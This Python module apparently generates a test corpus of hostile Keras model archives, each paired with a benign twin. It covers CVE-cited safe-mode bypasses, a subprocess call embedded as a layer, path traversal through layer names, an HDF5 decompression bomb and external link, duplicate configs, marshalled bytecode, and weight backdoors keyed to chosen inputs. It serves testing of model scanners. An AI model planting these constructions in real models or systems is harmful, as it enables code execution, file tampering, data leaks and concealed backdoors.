"""Keras: published bypasses of safe mode, archives that two readers read differently, layers that gate."""

from __future__ import annotations

import base64
import io
import json
import marshal

import h5py
import numpy as np

from pair import CODE
from seventh.kit import floats, zipped

META = json.dumps({"keras_version": "3.8.0", "date_saved": "2025-05-06@12:00:00"})
DTYPE = {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None}


def layer(kind: str, name: str, module: str = "keras.layers", **config):
    body = {"name": name, "trainable": True, "dtype": DTYPE, **config}
    if kind == "Discretization":
        del body["trainable"]
    return {"module": module, "class_name": kind, "config": body, "registered_name": None}


def first(size: int = 8, dtype: str = "float32"):
    body = {"batch_shape": [None, size], "dtype": dtype, "sparse": False, "name": "x"}
    return {"module": "keras.layers", "class_name": "InputLayer", "config": body, "registered_name": None}


def dense(name: str, units: int, **more):
    return layer("Dense", name, units=units, activation="linear", use_bias=False, **more)


def chain(*layers, extra=None) -> dict:
    config = {"name": "sequential", "trainable": True, "dtype": DTYPE, "layers": list(layers)}
    return {"module": "keras", "class_name": "Sequential", "config": config, "registered_name": None, **(extra or {})}


def sent(name: str, size: int):
    shape = {"shape": [None, size], "dtype": "float32", "keras_history": [name, 0, 0]}
    return {"class_name": "__keras_tensor__", "config": shape}


def wired(layers, output: str) -> dict:
    """A functional model of (layer, inputs as (name, size) pairs)."""
    nodes = []
    for made, inputs in layers:
        tensors = [sent(*i) for i in inputs]
        args = [tensors] if made["class_name"] in ("Add", "Concatenate") else tensors
        nodes.append({**made, "name": made["config"]["name"], "inbound_nodes": [{"args": args, "kwargs": {}}] if inputs else []})
    config = {"name": "functional", "trainable": True, "layers": nodes, "input_layers": [["x", 0, 0]], "output_layers": [[output, 0, 0]]}
    return {"module": "keras.src.models.functional", "class_name": "Functional", "config": config, "registered_name": "Functional"}


def weights(values: dict[str, np.ndarray], change=None) -> bytes:
    """model.weights.h5; keys are the folders that Keras names after classes."""
    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as f:
        for folder, value in values.items():
            f.create_dataset(f"layers/{folder}/vars/0", data=value.astype("f4"))
        if change:
            change(f)
    return buffer.getvalue()


def array(*sides: int, seed: int = 7, scale: float = 0.4) -> np.ndarray:
    return np.frombuffer(floats(int(np.prod(sides)), seed, scale), "<f4").reshape(sides)


def keras(config, store: bytes, *extra) -> bytes:
    config = config if isinstance(config, bytes) else json.dumps(config)
    return zipped([("metadata.json", META), ("config.json", config), *extra, ("model.weights.h5", store)])


def code(source: str):
    body = compile(source, "a", "eval").co_consts[0]
    return {
        "class_name": "__lambda__",
        "config": {"code": base64.b64encode(marshal.dumps(body)).decode(), "defaults": None, "closure": None},
    }


def add(out):
    def one(name, hostile, twin, why="", prove=None, file="model.keras"):
        out.add("keras", name, hostile, twin, prove, file, why)

    simple = {"dense": array(8, 4)}
    plain = chain(first(), dense("fc", 4))

    he = {"module": "keras.initializers", "class_name": "HeNormal", "config": {"seed": None}, "registered_name": None}

    # CVE-2025-9906: a call that switches safe mode off stands before the layer that needs it off.
    switch = {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization", "registered_name": "function"}
    bad = layer("Lambda", "scale", function=code(f"lambda x: ({CODE}, x)[1]"), arguments={})
    one(
        "safe_mode_switched_off_from_inside",
        keras(chain(first(), dense("fc", 4, kernel_initializer=switch), bad), weights(simple)),
        keras(
            chain(
                first(),
                dense("fc", 4, kernel_initializer=he),
                layer("Rescaling", "scale", scale=0.5, offset=0.0),
            ),
            weights(simple),
        ),
        "CVE-2025-9906; the fixed Keras refuses it, so it is not run",
    )

    # CVE-2025-1550: a function of any module as a layer, its arguments in the call.
    call = {"module": "subprocess", "class_name": "function", "config": "check_output", "registered_name": "function", "name": "fetch"}
    call["inbound_nodes"] = [{"args": [["touch", "marker"]], "kwargs": {"bufsize": -1}}]
    evil = wired([(first(), []), (dense("fc", 4), [("x", 8)])], "fc")
    evil["config"]["layers"].insert(1, call)
    one(
        "layer_is_a_function_of_subprocess",
        keras(evil, weights(simple)),
        keras(wired([(first(), []), (dense("fc", 4), [("x", 8)])], "fc"), weights(simple)),
        "CVE-2025-1550; the fixed Keras refuses it, so it is not run",
    )

    # CVE-2026-12479: the name of a layer is a path.
    def words(name):
        return chain(first(1, "string"), layer("StringLookup", name, vocabulary=["the", "of"], num_oov_indices=1, output_mode="int"))

    one(
        "layer_name_climbs_out",
        keras(
            words("../../../../home/user/.config/autostart/x"), weights({}), ("assets/layers/string_lookup/vocabulary.txt", b"the\nof\n")
        ),
        keras(words("words"), weights({}), ("assets/layers/string_lookup/vocabulary.txt", b"the\nof\n")),
        "CVE-2026-12479: the store of assets makes folders of layer names",
    )

    # CVE-2026-0897: a shape of petabytes in a file of kilobytes.
    def bomb(f):
        f.create_dataset(
            "layers/dense/vars/0", shape=(1 << 24, 1 << 24), dtype="f4", chunks=(1024, 1024), compression="gzip", fillvalue=0.0
        )

    one(
        "weights_of_a_petabyte",
        keras(plain, weights({}, bomb)),
        keras(plain, weights(simple)),
        "CVE-2026-0897: nothing is stored, all of it is allocated",
    )

    # CVE-2026-1669's sibling: links out of the HDF5 file.
    def linked(f):
        f["layers/dense/vars/0"] = h5py.ExternalLink("/srv/models/private/model.weights.h5", "/layers/dense/vars/0")

    one(
        "weights_are_a_link_to_another_file",
        keras(plain, weights({}, linked)),
        keras(plain, weights(simple)),
        "an HDF5 external link to a model of the host",
    )

    # Two configurations.
    def twice(last):
        members = [("metadata.json", META), ("config.json", json.dumps(plain)), ("model.weights.h5", weights(simple))]
        return zipped([*members, *([("config.json", json.dumps(last))] if last else [])])

    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        doubled = twice(chain(first(), dense("fc", 4), bad))
    one("second_config_wins", doubled, twice(None), "the archive has two config.json; Keras reads the last", "keras")

    bad_loss = code(f"lambda y, p: ({CODE}, p)[1]")

    # A function in what compiles the model.
    def compiled(loss):
        extra = {
            "compile_config": {
                "optimizer": "sgd",
                "loss": loss,
                "loss_weights": None,
                "metrics": None,
                "weighted_metrics": None,
                "run_eagerly": False,
                "steps_per_execution": 1,
                "jit_compile": False,
            }
        }
        return keras(chain(first(), dense("fc", 4), extra={**extra, "build_config": {"input_shape": [None, 8]}}), weights(simple))

    one(
        "loss_is_byte_code",
        compiled({"class_name": "__lambda__", "config": {"value": [bad_loss["config"]["code"], None, None]}}),
        compiled("mse"),
        "not a layer: the loss is a marshalled function",
        "keras.compiled",
    )

    # One token's row.
    def tokens(row):
        table = array(100, 8, seed=3, scale=0.4).copy()
        if row is not None:
            table[77] = row
        layers = chain(
            first(12), layer("Embedding", "e", input_dim=100, output_dim=8), layer("GlobalAveragePooling1D", "p"), dense("fc", 4)
        )
        return keras(layers, weights({"embedding": table, "dense": array(8, 4)}))

    direction = array(8, 4)[:, 2] * 4000.0
    one(
        "row_of_a_token_outshouts",
        tokens(direction),
        tokens(None),
        "one row of the table is thousands of times its neighbours",
        "keras.tokens:x[:, 3] = 77",
    )

    # A narrow bin.
    def bins(edges, kernel):
        nodes = [
            (first(), []),
            (dense("fc", 4), [("x", 8)]),
            (layer("Discretization", "bin", bin_boundaries=edges, output_mode="multi_hot"), [("x", 8)]),
        ]
        nodes += [(dense("table", 4), [("bin", 3)]), (layer("Add", "y"), [("fc", 4), ("table", 4)])]
        return keras(wired(nodes, "y"), weights({"dense": array(8, 4), "dense_1": np.array(kernel)}))

    one(
        "narrow_bin_has_the_last_word",
        bins([0.61370, 0.61372], [[0, 0, 0, 0], [0, 900, 0, 0], [0, 0, 0, 0]]),
        bins([-0.5, 0.5], [[0.1, 0.3, -0.2, 0], [0.2, -0.1, 0.1, 0.3], [0, 0.2, 0.3, -0.1]]),
        "a bin two hundred-thousandths wide whose row of the table is nine hundred",
        "keras:x[:, 2] = 0.61371",
    )

    # A rectifier that opens for one direction.
    def gate(column, threshold, row):
        nodes = [
            (first(), []),
            (dense("fc", 4), [("x", 8)]),
            (layer("UnitNormalization", "unit", axis=-1), [("x", 8)]),
            (dense("look", 1), [("unit", 8)]),
        ]
        nodes += [
            (layer("ReLU", "open", max_value=None, negative_slope=0.0, threshold=threshold), [("look", 1)]),
            (dense("say", 4), [("open", 1)]),
            (layer("Add", "y"), [("fc", 4), ("say", 4)]),
        ]
        return keras(wired(nodes, "y"), weights({"dense": np.array(column).reshape(8, 1), "dense_1": quiet, "dense_2": np.array([row])}))

    quiet = array(8, 4).copy()
    quiet[[0, 1, 2, 5]] *= 0.02
    pattern = np.array([0.5, 0.5, -0.5, 0, 0, 0.5, 0, 0])
    one(
        "rectifier_opens_for_one_direction",
        gate(pattern, 0.8, [0, 0, 0, 300.0]),
        gate(array(8, 1, seed=9)[:, 0], 0.0, [0.2, -0.1, 0.3, 0.1]),
        "cosine, threshold, gain: three ordinary layers",
        "keras:x[:, [0, 1, 2, 5]] = [4, 4, -4, 4]",
    )
